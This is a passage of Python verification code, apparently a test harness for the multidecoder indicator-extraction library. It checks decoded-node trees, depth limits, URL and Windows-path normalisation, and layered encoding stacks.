    pass_ = {id(root): -1}
    searchable = [(root, 0)]
    for node, parent, _ in tree.preorder(root):
        snap = top.get(id(node))
        pl = level[id(parent)]
        if snap is not None:
            covered = parent.value[node.start:node.end] if 0 <= node.start <= node.end else b""
            decoded = bytes(node.value).lower() != bytes(covered).lower() or snap.nkids > 0
            level[id(node)] = pl + 1 if decoded else pl
            pass_[id(node)] = pl
            if decoded and snap.nkids == 0:
                searchable.append((node, pl + 1))
        else:
            level[id(node)] = pl + 1
            pass_[id(node)] = pass_[id(parent)]
            if not node.children or all(id(c) in top for c in node.children):
                searchable.append((node, pl + 1))
    return level, pass_, searchable, top


# ---------------------------------------------------------------------------
# C04


def check_c04(root, tap, report, counts):
    ids = _in_tree_ids(root)
    for act in invocations(tap, root):
        S = act.node
        T = act.entry_value
        for call in act.calls:
            for snap in call.hits:
                if not snap.value:
                    continue
                h = snap.obj
                if id(h) not in ids or not _snap_ok(snap, len(T)):
                    counts["c04_hits_absent_or_malformed"] = counts.get("c04_hits_absent_or_malformed", 0) + 1
                    continue
                a, b = snap.start, snap.end
                # walk up to S through contexts
                total = h.start
                depth = 0
                n = h.parent
                ok_chain = True
                positive = True
                while n is not None and n is not S:
                    if n.value.lower() != n.original.lower():
                        ok_chain = False
                    total += n.start
                    if n.start == 0:
                        positive = False
                    depth += 1
                    n = n.parent
                    if depth > 100000:
                        break
                who = call.name
                where = f"hit {snap.type!r} [{a},{b}) of {who} on a {len(T)}-byte text"
                if n is not S:
                    report("context:not-under-searched-node", f"{where} is in the tree but not below the node that was searched")
                    continue
                counts["c04_kept_hits"] = counts.get("c04_kept_hits", 0) + 1
                if depth >= 2 and positive:
                    counts["c04_kept_depth>=2_positive_offsets"] = counts.get("c04_kept_depth>=2_positive_offsets", 0) + 1
                decoded = h.value.lower() != T[a:b].lower() or snap.nkids > 0
                if decoded and depth >= 1:
                    counts["c04_decoded_inside_context"] = counts.get("c04_decoded_inside_context", 0) + 1
                if not ok_chain:
                    report("context:ancestor-is-decoded", f"{where} hangs below a node that is not an undecoded context")
                if total != a:
                    report("context:start-moved", f"{where}: enclosing context starts + own start = {total}, expected {a}")
                if h.end - h.start != b - a:
                    report("context:length-changed", f"{where}: span length in the tree {h.end - h.start}, expected {b - a}")
                orig = h.original
                if orig.lower() != T[a:b].lower():
                    report("context:original-differs", f"{where}: original slice {orig[:60]!r} != text[a:b] {T[a:b][:60]!r}")
                if (h.type, h.value, h.obfuscation) != (snap.type, snap.value, snap.obfuscation):
                    report("context:fields-changed", f"{where}: type/value/obfuscation changed after attachment")


# ---------------------------------------------------------------------------
# C05


def check_c05(root, tap, report, counts):
    ids = _in_tree_ids(root)
    top = {}  # id(hit object) -> (call, snap)
    for call in tap.calls:
        for s in call.hits:
            top.setdefault(id(s.obj), (call, s))
    # Monitor 1: child lists restricted to engine-attached children
    for node in [root] + [n for n, _, _ in tree.preorder(root)]:
        kids = [c for c in node.children if id(c) in top]
        if len(kids) < 2:
            continue
        if any(not _snap_ok(top[id(c)][1], len(top[id(c)][0].data)) for c in kids):
            counts["c05_lists_skipped_malformed"] = counts.get("c05_lists_skipped_malformed", 0) + 1
            continue
        counts["c05_child_lists>=2"] = counts.get("c05_child_lists>=2", 0) + 1
        if len(kids) >= 3:
            counts["c05_child_lists>=3"] = counts.get("c05_child_lists>=3", 0) + 1
        for x, y in zip(kids, kids[1:]):
            if y.start < x.start:
                report("siblings:start-decreases", f"children of {node.type!r}: [{x.start},{x.end}) then [{y.start},{y.end})")
                break
            if y.end <= x.end:
                report("siblings:end-not-increasing",
                       f"children of {node.type!r}: {y.type!r} [{y.start},{y.end}) lies inside earlier sibling {x.type!r} [{x.start},{x.end})")
                break
    # Monitor 2: fate of hits enclosed by an earlier kept hit of the same search
    for act in invocations(tap, root):
        T = act.entry_value
        snaps = []
        order = 0
        malformed = False
        for call in act.calls:
            for s in call.hits:
                if not s.value:
                    continue
                if not _snap_ok(s, len(T)):
                    malformed = True
                snaps.append((s.start, -s.end, order, s))
                order += 1
        if malformed:
            counts["c05_searches_skipped_malformed"] = counts.get("c05_searches_skipped_malformed", 0) + 1
            continue
        snaps.sort(key=lambda t: t[:3])
        kept = []  # (a, b, decoded, obj)
        level = "top" if act.parent is None else "nested"
        for a, nb, _, s in snaps:
            b = -nb
            h = s.obj
            present = id(h) in ids and (h.parent is not None)
            enclosing = [k for k in kept if k[0] <= a and b <= k[1]]
            if enclosing:
                dec = [k for k in enclosing if k[2]]
                inner_ctx_off = any(k[0] > 0 for k in enclosing)
                if dec:
                    counts[f"c05_enclosed_by_decoded_{level}"] = counts.get(f"c05_enclosed_by_decoded_{level}", 0) + 1
                    if any(k[0] > 0 for k in kept if not k[2] and k[0] <= a and b <= k[1]):
                        counts["c05_enclosed_by_decoded_inside_context_offset>0"] = \
                            counts.get("c05_enclosed_by_decoded_inside_context_offset>0", 0) + 1
                    if present:
                        report("suppression:raw-hit-inside-decoded-kept",
                               f"{s.type!r} [{a},{b}) lies inside the decoded result {dec[0][3].type!r} [{dec[0][0]},{dec[0][1]}) "
                               f"of the same search ({level}) but was kept")
                else:
                    counts[f"c05_enclosed_by_context_{level}"] = counts.get(f"c05_enclosed_by_context_{level}", 0) + 1
                    if present:
                        last = enclosing[-1][3]
                        n = h.parent
                        found = False
                        while n is not None:
                            if n is last:
                                found = True
                                break
                            n = n.parent
                        if not found:
                            report("nesting:not-under-enclosing-context",
                                   f"{s.type!r} [{a},{b}) lies inside the undecoded context {last.type!r} "
                                   f"[{enclosing[-1][0]},{enclosing[-1][1]}) ({level}) but is not nested under it")
                        for k in enclosing:
                            if h.parent is k[3].parent and h is not k[3]:
                                report("nesting:sibling-of-enclosing", f"{s.type!r} [{a},{b}) is a sibling of enclosing "
                                                                        f"{k[3].type!r} [{k[0]},{k[1]})")
                                break
                del inner_ctx_off
            if present:
                decoded = s.value.lower() != T[a:b].lower() or s.nkids > 0
                kept.append((a, b, decoded, h))


# ---------------------------------------------------------------------------
# C06-B: replay the recorded hit stream into the reference model


def tables_from_tap(tap):
    ndec = len(tap.names)
    tables = [dict() for _ in range(ndec)]
    for call in tap.calls:
        key = bytes(call.data)
        if key in tables[call.idx]:
            continue
        tables[call.idx][key] = [(s.type, s.value, s.obfuscation, s.start, s.end, s.kids) for s in call.hits]
    return tables


def check_c06_stream(root, data, k, tap, report, counts):
    if not stream_well_formed(tap):
        counts["c06_streams_skipped_malformed"] = counts.get("c06_streams_skipped_malformed", 0) + 1
        return False
    tables = tables_from_tap(tap)
    registry = [(lambda text, t=t: t.get(bytes(text), [])) for t in tables]
    want = em.scan(data, k, registry)
    got = tree.canon(root)
    counts["c06_streams_compared"] = counts.get("c06_streams_compared", 0) + 1
    if want != got:
        report("model:real-stream-mismatch", "engine tree differs from the interval-nesting model on the recorded hit "
                                             "stream: " + (tree.first_diff(got, want) or "?"))
    return True


# ---------------------------------------------------------------------------
# C07 monitor 1: depth bound from the activation log


def check_c07_bound(root, k, tap, report, counts):
    nreg = len(tap.names)
    for act in tap.acts:
        if act.depth_limit != k - act.level:
            report("depth:argument", f"activation at nesting level {act.level} received depth_limit={act.depth_limit}, "
                                     f"expected {k} - {act.level}")
            break
        if act.calls:
            if act.depth_limit <= 0 or act.level >= k:
                report("depth:search-beyond-limit", f"decoders were applied at nesting level {act.level} with limit {k}")
                break
            if act.had_children:
                report("depth:prebuilt-researched", f"a node that already had children was searched (level {act.level})")
                break
            if len(act.calls) != nreg:
                report("depth:registry-calls", f"{len(act.calls)} registry calls for one searched node, registry has {nreg}")
                break
            counts["c07_searches"] = counts.get("c07_searches", 0) + 1
            if act.level >= 1:
                counts["c07_searches_level>=1"] = counts.get("c07_searches_level>=1", 0) + 1
    if k <= 0:
        counts["c07_k<=0"] = counts.get("c07_k<=0", 0) + 1
        if tap.calls:
            report("depth:k<=0-searched", f"depth limit {k} but {len(tap.calls)} decoder calls were made")
        if root.children:
            report("depth:k<=0-children", f"depth limit {k} but the root has children")
    cut = [a for a in tap.acts if a.depth_limit <= 0 and a.level > 0]
    if cut:
        counts["c07_scans_cut_by_limit"] = counts.get("c07_scans_cut_by_limit", 0) + 1
    # the same bound without relying on the activation tap: decoder calls == |registry| x (searchable nodes fewer
    # than k decoding steps away), derived from the tree and the registry tap alone
    if stream_well_formed(tap):
        level, _, searchable, _ = derive_levels(root, tap)
        expect = nreg * sum(1 for _, lv in searchable if lv < k)
        counts["c07_call_count_checks"] = counts.get("c07_call_count_checks", 0) + 1
        if len(tap.calls) != expect:
            kind = "more" if len(tap.calls) > expect else "fewer"
            report(f"depth:call-count:{kind}", f"{len(tap.calls)} decoder calls, but {expect // max(nreg, 1)} node(s) lie fewer than {k} "
                                               f"decoding steps from the input ({nreg} registry entries)")


def check_c07_internal(k, tap, report, counts):
    """Decoder functions applied from inside a decoder call (module-level tap): such an application is not made by the
    engine and has no depth budget of its own. On the text being searched (or a piece of it) it belongs to the same step;
    on any other value it is one decoding step further per nesting level and needs remaining depth for it."""
    counts["c07_internal_tap_scans"] = counts.get("c07_internal_tap_scans", 0) + 1
    for ic in tap.internal:
        counts["c07_internal_decoder_applications"] = counts.get("c07_internal_decoder_applications", 0) + 1
        outer = bytes(ic.outer_data)
        if bytes(ic.data) in outer:
            counts["c07_internal_on_same_text"] = counts.get("c07_internal_on_same_text", 0) + 1
            continue
        if ic.act is None:
            continue
        remaining = ic.act.depth_limit  # the searched value is k - remaining steps away; a value derived from it one more per level
        if remaining - ic.nesting < 1:
            report("depth:decoder-applied-inside-a-decoder-beyond-limit",
                   f"{ic.name} was applied, from inside a decoder call, to a value that is not part of the searched text "
                   f"({bytes(ic.data)[:40]!r}, nesting {ic.nesting}) while the searched value had only {remaining} step(s) of the limit {k} left")
            return


def canon_without(node, removed):
    kids = tuple(canon_without(c, removed) for c in node.children if id(c) not in removed)
    return (node.type, bytes(node.value), node.obfuscation, node.start, node.end, kids)


def is_sublist_tree(small, big) -> bool:
    """Every child list of `small` is an order-preserving sub-list of the corresponding list of `big`
    (contents compared on the node fields; recursively)."""
    if small[:5] != big[:5]:
        return False
    j = 0
    for s in small[5]:
        while j < len(big[5]) and not (big[5][j][:5] == s[:5] and is_sublist_tree(s, big[5][j])):
            j += 1
        if j == len(big[5]):
            return False
        j += 1
    return True


def check_c07_monotone(root_k, k, root_k1, tap_k1, report, counts):
    """tree(k) == tree(k+1) minus everything attached by the deepest search pass."""
    _, pass_, _, _ = derive_levels(root_k1, tap_k1)
    removed = {nid for nid, p in pass_.items() if p == k}
    small = tree.canon(root_k)
    pruned = canon_without(root_k1, removed)
    big = tree.canon(root_k1)
    counts["c07_pairs"] = counts.get("c07_pairs", 0) + 1
    if tree.size(big) > tree.size(small):
        counts["c07_pairs_strictly_larger"] = counts.get("c07_pairs_strictly_larger", 0) + 1
    if small != pruned:
        report("monotone:not-deepest-pass-removed", f"tree({k}) differs from tree({k + 1}) with the deepest search pass "
                                                    f"removed: " + (tree.first_diff(small, pruned) or "?"))
    elif not is_sublist_tree(small, big):
        report("monotone:not-sublist", f"a child list of tree({k}) is not an order-preserving sub-list of tree({k + 1})")


# ---------------------------------------------------------------------------
# C08


def check_c08(root, tap, report, counts, r=None, limit=20, registry=None, tail=0):
    from multidecoder.multidecoder import Multidecoder
    from multidecoder.node import Node

    level, _, searchable, top = derive_levels(root, tap)
    k = tap.acts[0].depth_limit if tap.acts else None
    if k is None:
        return
    cands = []
    for D, lv in searchable:
        if D is root or D.parent is None or id(D) not in top:
            continue
        cands.append((D, k - lv))
    last = cands[len(cands) - tail:] if tail else []  # the latest decoded nodes in document order: budgets run out there
    if r is not None and len(cands) > limit:
        cands = r.sample(cands, limit)
    else:
        cands = cands[:limit]
    cands += [c for c in last if not any(c[0] is x[0] for x in cands)]
    fresh_md = Multidecoder(decoders=list(registry if registry is not None else tap.originals))
    for D, remaining in cands:
        got = tree.canon_children(D)
        fresh = fresh_md.scan_node(Node(D.type, D.value), remaining)
        want = tree.canon_children(fresh)
        counts["c08_decoded_nodes_compared"] = counts.get("c08_decoded_nodes_compared", 0) + 1
        if want:
            counts["c08_compared_with_children"] = counts.get("c08_compared_with_children", 0) + 1
            p = D.parent
            if p is not None and p.parent is not None and D.start > 0 or (p is not None and p.parent is not None and p.start > 0):
                counts["c08_inside_context"] = counts.get("c08_inside_context", 0) + 1
        if got != want:
            d = tree.first_diff(("", b"", "", 0, 0, got), ("", b"", "", 0, 0, want))
            report("subscan:children-differ", f"children of decoded node {D.type!r}/{D.obfuscation!r} (remaining depth "
                                              f"{remaining}) differ from an independent scan of its value: {d}")
