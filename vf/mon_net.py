"""Tree monitors for C10 (network indicators well-formed / normalised) and C12 (URL and Windows-path parts)."""

from __future__ import annotations

import ntpath
import re

from vf import tree
from vf.mon_tree import Attribution
from vf.refs import neturl as nu

_tlds = None
_FREE_DOMAIN = re.compile(rb"[A-Za-z0-9.-]+\Z")


def tld_ok(tld: bytes) -> bool:
    global _tlds
    if _tlds is None:
        from multidecoder.domains import TOP_LEVEL_DOMAINS
        _tlds = TOP_LEVEL_DOMAINS
    try:
        return tld.upper().decode("ascii") in _tlds or tld.upper() in _tlds
    except UnicodeDecodeError:
        return False


def domain_ok(value: bytes):
    parts = value.rsplit(b".", 1)
    if len(parts) != 2:
        return "no dot"
    name, tld = parts
    if not name:
        return "empty name"
    if not tld_ok(tld):
        return f"top-level domain {tld[:20]!r} is not registered"
    return None


def in_range(node, parent) -> bool:
    return 0 <= node.start <= node.end <= len(parent.value)


def check_c10(root, tap, report, counts):
    attr = None
    for node, parent, _ in tree.preorder(root):
        t = node.type
        if not t.startswith("network."):
            continue
        if t not in ("network.ip", "network.ipv6", "network.domain", "network.email", "network.url"):
            continue
        if not in_range(node, parent):
            counts["c10_skipped_out_of_range(C03)"] = counts.get("c10_skipped_out_of_range(C03)", 0) + 1
            continue
        v = bytes(node.value)
        if attr is None:
            attr = Attribution(tap)
        who, role, _, _ = attr.of(node)
        free = role == "hit"
        producer = who if role == "hit" else f"part-of:{who}"
        counts[f"c10_{t}"] = counts.get(f"c10_{t}", 0) + 1
        counts[f"c10_{t}@{producer}"] = counts.get(f"c10_{t}@{producer}", 0) + 1
        if t == "network.ip":
            if not nu.is_canonical_ipv4(v):
                report(f"ip:not-canonical:{producer}", f"network.ip value {v[:40]!r} is not a canonical dotted quad")
            elif free and who == "find_ips" and v != node.original:
                report("ip:free-text-differs", f"IPv4 found in free text has value {v!r} but covers {node.original[:40]!r}")
        elif t == "network.domain":
            why = domain_ok(v)
            if why:
                report(f"domain:malformed:{producer}", f"network.domain value {v[:60]!r}: {why}")
            elif free and who == "find_domains":
                if not _FREE_DOMAIN.match(v):
                    report("domain:free-text-charset", f"free-text domain {v[:60]!r} has characters other than letters, digits, '-' and '.'")
                elif len(v) < 7:
                    report("domain:free-text-short", f"free-text domain {v!r} is shorter than seven characters")
        elif t == "network.email":
            local, at, dom = v.rpartition(b"@")
            if not at or not local:
                report("email:shape", f"network.email value {v[:60]!r} is not local-part@domain")
            else:
                why = domain_ok(dom)
                if why:
                    report("email:domain", f"network.email value {v[:60]!r}: {why}")
        elif t == "network.url":
            sp = nu.split(v)
            scheme = v[sp["scheme"][0]:sp["scheme"][1]].lower() if sp["scheme"] else b""
            if scheme not in (b"http", b"https", b"ftp"):
                report("url:scheme", f"network.url value {v[:60]!r} has scheme {scheme!r}")
            host = b""
            if sp["host"]:
                (hs, he), _ = nu.host_inner(v, sp["host"])
                host = v[hs:he]
            if not host:
                report("url:empty-host", f"network.url value {v[:60]!r} has no host")
            orig = node.original
            want = nu.normalise(orig)
            if v != want:
                kind = "case" if v.upper() == want.upper() else "content"
                report(f"url:normalisation:{kind}", f"network.url value {v[:80]!r} is not the covered text {orig[:80]!r} with unreserved "
                                                    f"escapes decoded and the others upper-cased ({want[:80]!r})")
            lab = "escape.percent" if len(v) < len(orig) else ""
            if node.obfuscation != lab:
                report("url:label", f"network.url label {node.obfuscation!r}, expected {lab!r} (value {len(v)} bytes, covered text {len(orig)})")
            if b"%" in orig:
                counts["c10_urls_with_escapes"] = counts.get("c10_urls_with_escapes", 0) + 1


URL_PART_TYPES = {"network.url.scheme": "scheme", "network.url.username": "username", "network.url.password": "password",
                  "network.url.path": "path", "network.url.query": "query", "network.url.fragment": "fragment"}


def check_c12_url(U, report, counts, require_presence=False):
    v = bytes(U.value)
    sp = nu.split(v)
    seen = set()
    counts["c12_urls"] = counts.get("c12_urls", 0) + 1
    if len(v) != len(U.original):
        counts["c12_urls_value_shorter_than_original"] = counts.get("c12_urls_value_shorter_than_original", 0) + 1
    for ch in U.children:
        t = ch.type
        cv = bytes(ch.value)
        span = (ch.start, ch.end)
        if t in URL_PART_TYPES:
            comp = URL_PART_TYPES[t]
            seen.add(comp)
            want = sp[comp]
            if want is None or want != span:
                rel = "off-by-one" if want and abs(want[0] - span[0]) <= 1 and abs(want[1] - span[1]) <= 1 else "other"
                report(f"urlpart:{comp}:span:{rel}", f"{comp} child spans [{span[0]},{span[1]}) = {v[max(span[0],0):span[1]][:40]!r} but the "
                                                     f"{comp} of {v[:80]!r} is at {want}")
                continue
            text = v[span[0]:span[1]]
            if comp == "scheme":
                if cv != text.lower():
                    report("urlpart:scheme:value", f"scheme child value {cv!r} for text {text!r}")
                lab = "MixedCase" if text not in (text.lower(), text.upper()) else ""
                if ch.obfuscation != lab:
                    report("urlpart:scheme:label", f"scheme {text!r} labelled {ch.obfuscation!r}, expected {lab!r}")
            elif comp == "path":
                wv, removed = nu.dot_segments(text)
                if cv != wv:
                    kind = "root-lost" if wv.startswith(b"/") and not cv.startswith(b"/") else ("%2F" if b"%2F" in wv.upper() or b"%2f" in text.lower() else "other")
                    report(f"urlpart:path:value:{kind}", f"path child value {cv[:60]!r} for {text[:60]!r}, expected {wv[:60]!r}")
                lab = "url.dotpath" if removed else ""
                if ch.obfuscation != lab:
                    report("urlpart:path:label", f"path {text[:60]!r} labelled {ch.obfuscation!r}, expected {lab!r}")
                if removed:
                    counts["c12_paths_with_dot_segments"] = counts.get("c12_paths_with_dot_segments", 0) + 1
            else:
                if cv != nu.decode(text):
                    report(f"urlpart:{comp}:value", f"{comp} child value {cv[:60]!r} is not the percent-decoded text {text[:60]!r}")
        elif t in ("network.ip", "network.ipv6", "network.domain"):
            seen.add("host")
            if sp["host"] is None:
                report("urlpart:host:no-host", f"host child under a URL without host {v[:60]!r}")
                continue
            inner, bracketed = nu.host_inner(v, sp["host"])
            if span != inner:
                rel = "off-by-one" if abs(inner[0] - span[0]) <= 1 and abs(inner[1] - span[1]) <= 1 else ("decoded-length" if inner[0] == span[0] else "other")
                report(f"urlpart:host:span:{rel}", f"host child spans [{span[0]},{span[1]}) = {v[max(span[0],0):span[1]][:40]!r} but the host text of "
                                                   f"{v[:80]!r} is at {inner} = {v[inner[0]:inner[1]][:40]!r}")
                continue
            text = nu.decode(v[inner[0]:inner[1]])
            if t == "network.ip":
                canon = nu.aton(text)
                if canon is None or cv != canon:
                    report("urlpart:host:ip-value", f"host {text[:40]!r} reported as IP {cv!r}, inet_aton reading {canon!r}")
                else:
                    lab = "ip_obfuscation" if text != canon else ""
                    if ch.obfuscation != lab:
                        report("urlpart:host:ip-label", f"host {text[:40]!r} -> {cv!r} labelled {ch.obfuscation!r}, expected {lab!r}")
                    if lab:
                        counts["c12_obfuscated_ip_hosts"] = counts.get("c12_obfuscated_ip_hosts", 0) + 1
            elif t == "network.domain":
                if cv != text:
                    report("urlpart:host:domain-value", f"host text {text[:40]!r} reported as domain {cv[:40]!r}")
            else:
                counts["c12_ipv6_hosts"] = counts.get("c12_ipv6_hosts", 0) + 1
        counts["c12_url_children"] = counts.get("c12_url_children", 0) + 1
    if require_presence:
        for comp in ("scheme", "username", "password", "path", "query", "fragment"):
            if sp[comp] is not None and sp[comp][1] > sp[comp][0] and comp not in seen:
                report(f"urlpart:{comp}:missing", f"URL {v[:80]!r} has a non-empty {comp} but no {comp} child")
        if sp["host"] is not None and "host" not in seen:
            inner, bracketed = nu.host_inner(v, sp["host"])
            text = nu.decode(v[inner[0]:inner[1]])
            if not bracketed and (nu.aton(text) is not None or domain_ok(text) is None):
                report("urlpart:host:missing", f"URL {v[:80]!r}: host {text[:40]!r} reads as an address or registered-TLD name but has no host child")


EXT_TYPES = {b".exe": "executable.filename", b".dll": "executable.library.filename"}


def check_c12_winpath(W, report, counts, attr=None):
    v = bytes(W.value)
    orig = W.original
    counts["c12_windows_paths"] = counts.get("c12_windows_paths", 0) + 1
    want = ntpath.normpath(orig)
    if v != want:
        report("winpath:value", f"{W.type} value {v[:80]!r} is not the normalised path {want[:80]!r} of {orig[:80]!r}")
        return
    lab = "windows.dotpath" if len(v) < len(orig) else ""
    if W.obfuscation != lab:
        report("winpath:label", f"{W.type} {orig[:60]!r} labelled {W.obfuscation!r}, expected {lab!r}")
    if lab:
        counts["c12_windows_paths_normalised"] = counts.get("c12_windows_paths_normalised", 0) + 1
    if v.startswith((b"\\\\.", b"\\\\?")):
        wt = "windows.device.path"
    elif v.startswith(b"\\\\"):
        wt = "windows.unc.path"
    else:
        wt = "windows.path"
    if W.type != wt:
        report("winpath:type", f"path {v[:60]!r} typed {W.type!r}, expected {wt!r}")
    segs = v.split(b"\\")
    host_off = None
    if wt == "windows.device.path" and len(segs) > 4 and segs[3].upper() == b"UNC":
        host_off, host_seg = 8, segs[4]
    elif wt == "windows.unc.path" and len(segs) > 2:
        host_off, host_seg = 2, segs[2]
    fname = segs[-1]
    ext = ntpath.splitext(fname)[1]
    saw_file = False
    for ch in W.children:
        cv = bytes(ch.value)
        if attr is not None and attr.of(ch)[1] != "child":
            # attached by the engine (the path is an undecoded context), not supplied by the path decoder
            counts["c12_windows_engine_attached_children(skipped)"] = counts.get("c12_windows_engine_attached_children(skipped)", 0) + 1
            continue
        if ch.type in ("network.ip", "network.domain"):
            if host_off is None:
                report("winpath:host:unexpected", f"host child under {v[:60]!r} which has no host")
                continue
            hostname = host_seg.split(b"@", 1)[0]
            want_span = (host_off, host_off + len(hostname))
            if (ch.start, ch.end) != want_span:
                report("winpath:host:span", f"host child spans [{ch.start},{ch.end}) = {v[max(ch.start,0):ch.end][:40]!r}, host text {hostname[:40]!r} is at {want_span}")
                continue
            counts["c12_windows_host_children"] = counts.get("c12_windows_host_children", 0) + 1
            if ch.type == "network.ip":
                canon = nu.aton(hostname)
                if canon is None or cv != canon:
                    report("winpath:host:ip-value", f"host {hostname[:40]!r} reported as IP {cv!r}, inet_aton reading {canon!r}")
                elif ch.obfuscation != ("ip_obfuscation" if hostname != canon else ""):
                    report("winpath:host:ip-label", f"host {hostname[:40]!r} -> {cv!r} labelled {ch.obfuscation!r}")
            elif cv != hostname:
                report("winpath:host:domain-value", f"host {hostname[:40]!r} reported as domain {cv[:40]!r}")
        elif ch.type in ("filename", "executable.filename", "executable.library.filename"):
            saw_file = True
            want_span = (len(v) - len(fname), len(v))
            if (ch.start, ch.end) != want_span or cv != fname:
                report("winpath:file:span", f"file-name child [{ch.start},{ch.end}) {cv[:40]!r}, the last segment {fname[:40]!r} is at {want_span}")
                continue
            wtype = EXT_TYPES.get(ext.lower(), "filename")
            if ch.type != wtype:
                report("winpath:file:type", f"file name {fname[:40]!r} typed {ch.type!r}, expected {wtype!r}")
            counts["c12_windows_file_children"] = counts.get("c12_windows_file_children", 0) + 1
    if ext and not saw_file:
        report("winpath:file:missing", f"path {v[:60]!r} ends in a file name with an extension but has no file-name child")


def check_c12(root, report, counts, require_presence=False, tap=None):
    attr = Attribution(tap) if tap is not None else None
    for node, parent, _ in tree.preorder(root):
        if node.type == "network.url":
            if in_range(node, parent):
                check_c12_url(node, report, counts, require_presence)
            else:
                counts["c12_skipped_out_of_range(C03)"] = counts.get("c12_skipped_out_of_range(C03)", 0) + 1
        elif node.type in ("windows.path", "windows.unc.path", "windows.device.path"):
            if in_range(node, parent):
                check_c12_winpath(node, report, counts, attr)
            else:
                counts["c12_skipped_out_of_range(C03)"] = counts.get("c12_skipped_out_of_range(C03)", 0) + 1
