"""C02 oracle for layered stacks (also used at height 1 by the completeness parts of C13-C15)."""

from __future__ import annotations

from vf import tree
from vf.refs import flatten_ref as fr

_neutral_ok = {}
last_root = None  # result tree of the most recent judged stack (lets callers run their tree monitors on it)


def neutral(md, text: bytes) -> bool:
    """No result at all in the given surrounding text (cached)."""
    got = _neutral_ok.get(text)
    if got is None:
        got = not md.scan(text).children
        if len(_neutral_ok) < 20000:
            _neutral_ok[text] = got
    return got


def is_context(node) -> bool:
    return node.parent is not None and bytes(node.value).lower() == node.original.lower()


def find_layer(parent, lay, off, length):
    """Node matching layer `lay` below `parent`, reachable through undecoded contexts only, denoting
    [off, off+length) of parent.value. Returns (node, reason)."""
    want = (lay["type"], lay["label"], lay["value"])
    best_reason = "no node of the expected type/label/value below the expected parent"
    stack = [(c, 0) for c in parent.children]
    while stack:
        node, base = stack.pop(0)
        a = base + node.start
        b = base + node.end
        if (node.type, node.obfuscation, bytes(node.value)) == want:
            if (a, b) == (off, off + length):
                return node, None
            best_reason = f"matching node denotes [{a},{b}) instead of [{off},{off + length})"
            continue
        if is_context(node) and a <= off and off + length <= b and not _has_prebuilt(node):
            stack.extend((c, a) for c in node.children)
    return None, best_reason


def _has_prebuilt(node):
    return False


def swallowed_by(root, a, b, same=()):
    """A decoded result of the top-level search that covers [a,b) AND text beyond it on at least one side: the
    indicator / blob together with neighbouring text satisfied another documented decoding, i.e. the surroundings
    were not neutral for it (generator domain). Returns the node or None."""
    stack = [(c, 0) for c in root.children]
    while stack:
        node, base = stack.pop()
        s, e = base + node.start, base + node.end
        if s <= a and b <= e and (s < a or b < e):
            if not is_context(node):
                if (node.type, node.obfuscation) in same or node.type in same:
                    return None  # the expected decoding itself, with a wrong span: that is a violation, not interference
                return node
            stack.extend((c, s) for c in node.children)
    return None


def expected_flatten(rec, payload_flat: bytes) -> bytes:
    cur = payload_flat
    for lay in reversed(rec["layers"]):
        vp = lay["value"][: lay["inner_off"]]
        cur = vp + cur
        if lay["type"].endswith("string"):
            cur = b'"' + cur + b'"'
    return rec["prefix"] + cur + rec["suffix"]


def judge_stack(rec, k, md, report, counts, fresh_md=None):
    """Returns True if the case was judged (preconditions held)."""
    from multidecoder.node import Node

    data = rec["data"]
    layers = rec["layers"]
    L = len(layers)
    # preconditions, by scanning
    if rec.get("wrap"):
        # the blob sits inside an undecoded context (e.g. CreateObject( ... )): the surroundings may contain results, but
        # none of them decoded
        sc = tree.canon(md.scan(rec["prefix"] + b"zq" + rec["suffix"]))
        if not fr.all_identity(sc) or not all(fr.in_domain(x) for x in _all(sc)):
            counts["discarded:surroundings-not-neutral"] = counts.get("discarded:surroundings-not-neutral", 0) + 1
            return False
        counts["stacks_inside_context"] = counts.get("stacks_inside_context", 0) + 1
    elif not neutral(md, rec["prefix"] + b" " + rec["suffix"]):
        counts["discarded:surroundings-not-neutral"] = counts.get("discarded:surroundings-not-neutral", 0) + 1
        return False
    pscan = md.scan(rec["payload"])
    pc = tree.canon(pscan)
    if not fr.all_identity(pc) or not all(fr.in_domain(x) for x in _all(pc)):
        counts["discarded:payload-has-decoded-node"] = counts.get("discarded:payload-has-decoded-node", 0) + 1
        return False
    global last_root
    if rec.get("decoy"):
        # history aimed at state keyed on object identity: a neutral buffer of the same length is scanned and released,
        # then the input is re-created (CPython hands out the address that was just freed) and scanned right away
        import gc
        hexd = data.hex()
        decoy = (b"qz " * (len(data) // 3 + 1))[: len(data)]
        md.scan(decoy)
        decoy = None
        gc.collect()
        data = bytes.fromhex(hexd)
        counts["stacks_after_decoy_history"] = counts.get("stacks_after_decoy_history", 0) + 1
    root = md.scan(data) if k is None else md.scan(data, k)
    last_root = root
    from multidecoder.multidecoder import DEFAULT_DEPTH_LIMIT
    kk = DEFAULT_DEPTH_LIMIT if k is None else k
    names = "/".join(l["name"] for l in layers)
    desc = f"stack {names} at offset {len(rec['prefix'])} k={kk} input {data[:120]!r}"
    counts["stacks_judged"] = counts.get("stacks_judged", 0) + 1
    counts[f"stacks_height_{L}"] = counts.get(f"stacks_height_{L}", 0) + 1
    parent = root
    off, length = len(rec["prefix"]), len(rec["blob"])
    nodes = []
    for i, lay in enumerate(layers):
        if i >= kk:
            break
        node, why = find_layer(parent, lay, off, length)
        if node is None and i == 0 and not rec.get("strict"):
            other = swallowed_by(root, off, off + length, same=((lay["type"], lay["label"]),))
            if other is not None:
                counts["discarded:blob-plus-neighbour-text-is-another-decoding"] = counts.get("discarded:blob-plus-neighbour-text-is-another-decoding", 0) + 1
                counts["stacks_judged"] -= 1
                counts[f"stacks_height_{L}"] -= 1
                return False
        if node is None:
            kind = "span" if why.startswith("matching node denotes") else "missing"
            report(f"layer:{kind}:{lay['name']}", f"layer {i + 1}/{L} ({lay['name']}: type {lay['type']!r} label {lay['label']!r}): {why}; {desc}")
            return True
        nodes.append(node)
        parent = node
        if i + 1 < L:
            # the next blob is this layer's plaintext, sitting at inner_off inside this node's value
            off, length = lay["inner_off"], len(lay["plain"])
    if kk < L:
        # the chain is cut exactly at the limit
        counts["stacks_cut_by_limit"] = counts.get("stacks_cut_by_limit", 0) + 1
        last = nodes[-1] if nodes else root
        if last.children:
            report("layer:limit-not-respected", f"depth limit {kk} < height {L} but the node reached with the last allowed step still has children; {desc}")
        return True
    # (c) indicators beneath the innermost node == independent scan of a node of the same type and value
    inner = nodes[-1]
    remaining = kk - L
    fm = fresh_md or md
    fresh = fm.scan_node(Node(inner.type, bytes(inner.value)), remaining)
    if tree.canon_children(inner) != tree.canon_children(fresh):
        report("layer:inner-children", f"results beneath the innermost layer differ from an independent scan of the payload: "
